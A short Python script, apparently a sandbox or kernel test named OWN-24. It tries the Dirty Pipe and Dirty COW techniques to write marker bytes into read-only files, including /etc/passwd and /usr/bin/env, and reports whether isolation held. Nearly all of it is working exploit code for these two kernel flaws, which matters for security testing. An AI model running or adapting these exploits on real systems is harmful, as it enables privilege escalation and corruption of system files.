# OWN-24 Dirty Pipe (CVE-2022-0847), Dirty COW (CVE-2016-5195): writing into the pages of a file that may only be read.
import ctypes, mmap, os, sys, threading, time
bad = []
targets = [sys.argv[0], "/input.txt", "/etc/passwd", "/usr/bin/env"]
for p in targets:
    try: fd = os.open(p, os.O_RDONLY); before = os.pread(fd, 32, 0)
    except OSError: continue
    if len(before) < 8: continue
    r, w = os.pipe(); size = 65536
    os.write(w, b"\0" * size); os.read(r, size)                    # every slot of the pipe has been used, and may be merged into
    try: os.splice(fd, w, 1, offset_src=0); os.write(w, b"DIRTYPIPE")
    except (OSError, AttributeError): pass
    m = mmap.mmap(fd, 0, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ) if os.fstat(fd).st_size else None
    if m:
        stop = time.time() + 0.1; at = None
        for line in open("/proc/self/maps"):
            if line.rstrip().endswith(os.path.basename(p)) and " r--p " in line: at = int(line.split("-")[0], 16)
        def drop():
            while time.time() < stop: m.madvise(mmap.MADV_DONTNEED)
        t = threading.Thread(target=drop)
        try: t.start()
        except RuntimeError: t = None                              # no threads here: then no race
        while at and time.time() < stop:
            try:
                with open("/proc/self/mem", "r+b", 0) as f: f.seek(at); f.write(b"DIRTYCOW")
            except OSError: break
        t and t.join()
    if os.pread(os.open(p, os.O_RDONLY), 32, 0) != before: bad.append("changed " + p)
print("OWN-24", "BROKEN " + "; ".join(bad) if bad else "HELD")
